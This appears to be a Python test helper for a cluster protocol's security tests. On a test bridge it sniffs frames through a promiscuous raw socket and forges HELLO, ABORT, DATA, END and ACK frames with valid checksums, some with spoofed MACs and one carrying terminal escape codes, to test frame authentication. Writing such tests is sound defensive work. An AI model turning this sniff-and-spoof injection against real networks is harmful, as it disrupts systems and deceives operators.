#!/usr/bin/env python3
"""A hostile host on a wiregraph job's L2 segment (tests/test_cluster_attack.cc).

Listens on the tap bridge with a raw AF_PACKET socket (promiscuous, so it
also sees the unicast frames the bridge forwards between the nodes), learns
the job from what it sees (job token, ranks, each node's MAC, sequence
numbers and supersteps) and forges frames in answer, as issue #14 describes:

  - on every HELLO (up to --rounds): a HELLO claiming the sender's rank (a
    taken rank) from the attacker's own MAC, with the job's parameters;
  - on the first DATA frame of each superstep from each node (up to
    --rounds): an ABORT whose text carries terminal escape codes, then a
    DATA bucket (the next sequence number, records with absurd values), an
    END with wrong counts, and an ACK acking far beyond what was sent (for
    the sender's flow, as its peer); each once from the attacker's MAC and
    once from the real sender's MAC.

Every forged frame has a valid CRC32C (in the tag's first 4 bytes), the job
token and the flags the real frames carry; only a key can tell them apart.
Each forgery is logged (one line per frame: KIND FROM-RANK TO-RANK
own|spoofed) to --log. No sleeps: the attacker acts only on frames it sees
and exits when its parent (the node it was started beside) is gone.

Standard library only.
"""

import argparse
import os
import select
import socket
import struct
import sys

ETH_P_ALL = 0x0003
SOL_PACKET = 263
PACKET_ADD_MEMBERSHIP = 1
PACKET_MR_PROMISC = 1
PACKET_OUTGOING = 4

HEADER_OFFSET = 42
HEADER = struct.Struct("<HBBIBBHIIIIBBH6s16s")  # dataplane/wire.h BucketHeader (54 bytes)
PAYLOAD_OFFSET = HEADER_OFFSET + HEADER.size
TAG_OFFSET = HEADER_OFFSET + 38
MAGIC = 0x4757
DATA, END, HELLO, FIN, ABORT, ACK = 1, 2, 3, 4, 5, 6
BROADCAST = 0xFF
HELLO_SALT, HELLO_PORT_MAC = 40, 56  # HelloPayload offsets
ATTACKER_MAC = bytes([0x02, 0x66, 0x66, 0x66, 0x66, 0x66])
ABORT_TEXT = b"\x1b[2J\x1b[31mforged abort\x1b[0m\x1b]0;owned\x07"


def crc32c_table():
    table = []
    for i in range(256):
        c = i
        for _ in range(8):
            c = (c >> 1) ^ (0x82F63B78 if c & 1 else 0)
        table.append(c)
    return table


TABLE = crc32c_table()


def bucket_crc(frame):
    """dataplane/frame.h bucket_crc: CRC32C state (init ~0, no final
    inversion) of header + payload with the tag taken as zero."""
    data = frame[HEADER_OFFSET:TAG_OFFSET] + bytes(16) + frame[TAG_OFFSET + 16:]
    c = 0xFFFFFFFF
    for b in data:
        c = TABLE[(c ^ b) & 0xFF] ^ (c >> 8)
    return c


def ip_checksum(header):
    s = sum(struct.unpack("!10H", header))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def build(template, src_mac, dst_mac, fields, payload):
    """A frame like `template` (its IPs and UDP ports) with header `fields`
    (a dict over HEADER's names) and `payload`, sealed with the CRC."""
    names = ["magic", "version", "kind", "job", "src", "dst", "count", "superstep", "seq", "ack", "tsval",
             "flags", "queue", "domain", "nonce", "tag"]
    h = dict(zip(names, HEADER.unpack_from(template, HEADER_OFFSET)))
    h.update(fields)
    h["tag"] = bytes(16)
    bucket = HEADER.pack(*[h[n] for n in names]) + payload
    ip = bytearray(template[14:34])
    struct.pack_into("!H", ip, 2, 28 + len(bucket))
    struct.pack_into("!H", ip, 10, 0)
    struct.pack_into("!H", ip, 10, ip_checksum(bytes(ip)))
    udp = bytearray(template[34:42])
    struct.pack_into("!H", udp, 4, 8 + len(bucket))
    struct.pack_into("!H", udp, 6, 0)
    frame = bytearray(dst_mac + src_mac + b"\x08\x00" + bytes(ip) + bytes(udp) + bucket)
    struct.pack_into("<I", frame, TAG_OFFSET, bucket_crc(frame))
    return bytes(frame)


class Attacker:
    def __init__(self, ifname, log, rounds, kinds):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.sock.bind((ifname, 0))
        mreq = struct.pack("iHH8s", socket.if_nametoindex(ifname), PACKET_MR_PROMISC, 0, b"")
        self.sock.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, mreq)
        self.log = log
        self.rounds = rounds
        self.kinds = kinds
        self.macs = {}          # rank -> its port's MAC (from its frames)
        self.hellos_forged = 0
        self.data_rounds = {}   # rank -> supersteps answered
        self.last_superstep = {}

    def note(self, kind, src, dst, how):
        self.log.write("forged %s %d %d %s\n" % (kind, src, dst, how))
        self.log.flush()

    def send(self, kind, frame):
        if kind not in self.kinds:
            return False
        try:
            self.sock.send(frame)
        except OSError as e:  # the bridge went away: the run is over
            self.log.write("send failed: %s\n" % e)
            self.log.flush()
            return False
        return True

    def on_hello(self, frame, h):
        src = h[4]
        if self.hellos_forged >= self.rounds:
            return
        self.hellos_forged += 1
        payload = bytearray(frame[PAYLOAD_OFFSET:PAYLOAD_OFFSET + h[6]])
        payload[HELLO_SALT:HELLO_SALT + 16] = os.urandom(16)
        payload[HELLO_PORT_MAC:HELLO_PORT_MAC + 6] = ATTACKER_MAC
        if self.send("HELLO", build(frame, ATTACKER_MAC, b"\xff" * 6, {"flags": h[11] & ~1}, bytes(payload))):
            self.note("HELLO", src, BROADCAST, "own")

    def on_data(self, frame, h):
        src, dst, superstep, seq = h[4], h[5], h[7], h[8]
        if self.last_superstep.get(src) == superstep or self.data_rounds.get(src, 0) >= self.rounds:
            return
        self.last_superstep[src] = superstep
        self.data_rounds[src] = self.data_rounds.get(src, 0) + 1
        real_src, real_dst = frame[6:12], frame[0:6]
        for mac, how in ((ATTACKER_MAC, "own"), (real_src, "spoofed")):
            abort = os.urandom(16) + struct.pack("<I", len(ABORT_TEXT)) + ABORT_TEXT + bytes(400 - len(ABORT_TEXT))
            if self.send("ABORT", build(frame, mac, b"\xff" * 6,
                                        {"kind": ABORT, "dst": BROADCAST, "count": len(abort), "seq": 0, "ack": 0,
                                         "queue": 0, "domain": 0}, abort)):
                self.note("ABORT", src, BROADCAST, how)
            records = b"".join(struct.pack("<If", i, 1e30) for i in range(8))
            if self.send("DATA", build(frame, mac, real_dst, {"seq": (seq + 1) & 0xFFFFFFFF, "count": 8}, records)):
                self.note("DATA", src, dst, how)
            end = struct.pack("<6Q", 1000, 99999, 1, 1, 1000, 1) + bytes(64)
            if self.send("END", build(frame, mac, real_dst,
                                      {"kind": END, "count": len(end), "seq": (seq + 2) & 0xFFFFFFFF, "domain": 0},
                                      end)):
                self.note("END", src, dst, how)
            # An ACK from the receiver acking 100000 frames the sender never sent.
            ack = struct.pack("<IHHIII", 0, 0, 0, 0, 0, 0)  # wire::AckPayload's fixed part, no selective ack
            ack_mac = ATTACKER_MAC if how == "own" else real_dst
            if self.send("ACK", build(frame, ack_mac, real_src,
                                      {"kind": ACK, "src": dst, "dst": src, "count": len(ack), "seq": 0,
                                       "ack": (seq + 100000) & 0xFFFFFFFF, "superstep": 0, "domain": 0, "tsval": 0},
                                      ack)):
                self.note("ACK", dst, src, how)

    def run(self):
        parent = os.getppid()
        self.log.write("listening\n")
        self.log.flush()
        while os.getppid() == parent:
            ready, _, _ = select.select([self.sock], [], [], 0.5)  # a timeout only to notice the parent leaving
            if not ready:
                continue
            try:
                frame, addr = self.sock.recvfrom(65535)
            except OSError:
                return
            if addr[2] == PACKET_OUTGOING or len(frame) < PAYLOAD_OFFSET or frame[12:14] != b"\x08\x00":
                continue
            if frame[23] != 17 or frame[6:12] == ATTACKER_MAC:
                continue
            h = HEADER.unpack_from(frame, HEADER_OFFSET)
            if h[0] != MAGIC:
                continue
            self.macs[h[4]] = frame[6:12]
            if h[2] == HELLO:
                self.on_hello(frame, h)
            elif h[2] == DATA:
                self.on_data(frame, h)


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--bridge", required=True)
    p.add_argument("--log", required=True)
    p.add_argument("--rounds", type=int, default=6, help="forgery rounds per node (default 6)")
    p.add_argument("--kinds", default="HELLO,ABORT,DATA,END,ACK", help="the kinds to forge (default all)")
    args = p.parse_args()
    with open(args.log, "a") as log:
        try:
            Attacker(args.bridge, log, args.rounds, set(args.kinds.split(","))).run()
        except OSError as e:
            log.write("error: %s\n" % e)
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
